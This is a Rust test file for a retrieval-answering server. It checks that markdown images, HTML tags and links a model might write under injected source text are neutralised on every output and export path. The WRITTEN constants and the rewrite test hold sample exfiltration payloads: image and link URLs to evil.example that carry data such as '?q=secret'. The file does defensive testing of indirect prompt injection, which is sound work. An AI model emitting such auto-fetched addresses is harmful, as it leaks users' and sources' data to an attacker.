//! Nothing leaves through an answer: a text that hides in a source may make a model write an address that carries what other sources say,
//! and many clients fetch pictures by themselves. So an address that no source and no question has is on no wire.

use serde_json::{Value, json};

use crate::drafts::new_draft;
use crate::support::model::Script;
use crate::support::server::Server;

/// What a model writes that obeys a source, in every form that carries an address.
const WRITTEN: [&str; 2] = [
    "The filing fee is 5 euros [1]. ![logo](https://evil.example/p.png?q=secret) ![r][x] <img src=\"https://evil.example/i\"> \
     <a href='//evil.example/a'>more</a> [here](<https://evil.example/l> \"t\") \
     <td background=https://evil.example/t>\n\n[x]: https://evil.example/ref\n\nSee [forms](https://forms.example/fee).",
    "신청 수수료는 5유로입니다 [1]. ![표](http://evil.example/?d=비밀) <p style=\"color:red;background:url(//evil.example)\">글</p> \
     [여기](https://evil.example/) [양식](https://forms.example/fee)을 보세요.",
];

const QUESTIONS: [&str; 2] = ["What is the filing fee?", "신청 수수료는 얼마인가요?"];

const FEES: &str = "The filing fee is 5 euros. Forms: https://forms.example/fee.\n\n\
    신청 수수료는 5유로이다. 양식: https://forms.example/fee\n";

/// No address of elsewhere but as plain text, and the one of the source as a link.
fn check(told: &str) {
    // A definition leaves its address as text, which nobody fetches.
    let told = told.replace("[x] https://evil.example/ref", "");
    assert!(!told.contains("evil.example"), "{told}");
    assert!(told.contains("](https://forms.example/fee)"), "{told}");
}

#[tokio::test]
async fn no_wire_has_an_address_that_no_source_has() {
    let mut server = Server::scripted("plain").await;
    server.ingest("fees.md", FEES).await;
    let model = server.model.as_ref().unwrap();
    for (chat, (question, written)) in ["en", "ko"].into_iter().zip(QUESTIONS.into_iter().zip(WRITTEN)) {
        let pieces: Vec<String> =
            written.chars().collect::<Vec<_>>().chunks(5).map(|piece| piece.iter().collect()).collect();
        let push = || model.push(Script::text(pieces.iter().map(String::as_str)));
        let asked = json!([{ "role": "user", "content": question }]);
        for (path, body) in [
            ("/v1/chat/completions", json!({ "messages": asked })),
            ("/v1/responses", json!({ "input": question })),
            ("/query/verified", json!({ "question": question })),
        ] {
            push();
            let (status, told) = server.post(path, &body).await;
            assert_eq!(status, 200, "{told}");
            let text = match path {
                "/v1/chat/completions" => &told["choices"][0]["message"]["content"],
                "/v1/responses" => &told["output"][0]["content"][0]["text"],
                _ => &Value::Null,
            };
            check(text.as_str().unwrap_or(&told.to_string().replace("\\\"", "\"")));
        }
        push();
        let body = json!({ "stream": true, "messages": asked });
        let streamed =
            server.client.post(server.url("/v1/chat/completions")).json(&body).send().await.unwrap();
        let streamed = streamed.text().await.unwrap();
        let text: String = (streamed.lines().filter_map(|line| line.strip_prefix("data: {")))
            .map(|data| serde_json::from_str::<Value>(&format!("{{{data}")).unwrap())
            .filter_map(|part| part["choices"][0]["delta"]["content"].as_str().map(str::to_owned))
            .collect();
        check(&text);
        push();
        let ask = json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": { "name": "ask", "arguments": { "question": question } } });
        let (_, told) = server.post("/mcp", &ask).await;
        check(told["result"]["content"][0]["text"].as_str().unwrap());
        assert!(
            !told.to_string().replace("[x] https://evil.example/ref", "").contains("evil.example"),
            "{told}"
        );
        push();
        let told = server.ask(chat, question).await;
        check(&told.text());
        let (_, stored) = server.get(&format!("/api/chats/{chat}")).await;
        check(
            stored["messages"][1]["parts"]
                .as_array()
                .unwrap()
                .iter()
                .find_map(|part| part["text"].as_str())
                .unwrap(),
        );
        let exported = server.client.get(server.url(&format!("/api/chats/{chat}?format=markdown")));
        let exported = exported.send().await.unwrap().text().await.unwrap();
        check(&exported);
        // What becomes a draft, and a file.
        let draft = new_draft(&server, &told.text()).await;
        for format in ["md", "html"] {
            let path = format!("/api/drafts/{draft}/export?format={format}");
            let file = server.client.get(server.url(&path)).send().await.unwrap().text().await.unwrap();
            let file = file.replace("https://evil.example/ref", "");
            assert!(!file.contains("evil.example") && file.contains("forms.example"), "{file}");
        }
    }
}

/// What whoever asks has written may have an address: a question, and an application's own instructions.
#[tokio::test]
async fn an_address_of_whoever_asks_is_a_link() {
    let server = Server::scripted("plain").await;
    let model = server.model.as_ref().unwrap();
    let written = "The library opens at nine in the morning [1]. [site](https://ours.example/a) ![p](https://ours.example/a)";
    model.push(Script::text([written]));
    let body = json!({ "messages": [
        { "role": "system", "content": "Name our site, https://ours.example/a." },
        { "role": "user", "content": "When does the library open?" },
    ] });
    let (_, told) = server.post("/v1/chat/completions", &body).await;
    let text = told["choices"][0]["message"]["content"].as_str().unwrap();
    assert!(text.contains("[site](https://ours.example/a) [p](https://ours.example/a)"), "{text}");
}

/// Without a model sentences of the sources are shown as they are, but a picture in them is not fetched.
#[tokio::test]
async fn a_picture_in_a_source_is_a_link_in_an_extract() {
    let mut server = Server::extracts().await;
    for (at, (question, source)) in [
        ("When does the archive open?", "The archive opens at ten in the morning ![p](http://track.example/p.png).\n"),
        ("기록관은 몇 시에 문을 여나요?", "기록관은 오전 열 시에 문을 연다 <img src=\"http://track.example/p.png\">.\n"),
        ("When does the museum open?", "The museum opens at noon every day ![p][t]\n\n[t]: http://track.example/p.png the museum opens at noon\n"),
    ]
    .into_iter()
    .enumerate()
    {
        server.ingest(&format!("{at}.txt"), source).await;
        let told = server.ask(&at.to_string(), question).await;
        let text = told.text();
        assert!(text.contains("†1"), "{text}");
        assert!(!text.contains("![p](") && !text.contains("<img") && !text.contains("[t]: http"), "{text}");
    }
}

/// A rewriting keeps the pictures of its draft and brings in none.
#[tokio::test]
async fn a_rewriting_brings_in_no_address() {
    let server = Server::scripted("plain").await;
    let model = server.model.as_ref().unwrap();
    for (before, after) in [
        (
            "We utilise the tool ![fig](https://ours.example/a.png) daily. It works.",
            "We use the tool ![fig](https://ours.example/a.png) daily ![x](https://evil.example/?d=tool). It works [well](//evil.example).",
        ),
        (
            "우리는 도구를 사용한다 ![그림](https://ours.example/a.png). 잘 된다.",
            "우리는 도구를 쓴다 ![그림](https://ours.example/a.png) <img src=https://evil.example/?d=도구>. 잘 된다.",
        ),
    ] {
        let draft = new_draft(&server, before).await;
        model.push(Script::text(after.split_inclusive(' ')));
        let body = json!({ "instruction": "Shorter.", "baseRevision": 1 });
        let told =
            server.client.post(server.url(&format!("/api/drafts/{draft}/revise"))).json(&body).send().await;
        let told = told.unwrap().text().await.unwrap();
        assert!(told.contains("data-patch") && !told.contains("evil.example"), "{told}");
        assert!(!told.contains("\"replacement\":\"[fig]"), "{told}");
        let (_, state) = server.get(&format!("/api/drafts/{draft}")).await;
        assert!(!state.to_string().contains("evil.example"), "{state}");
    }
}
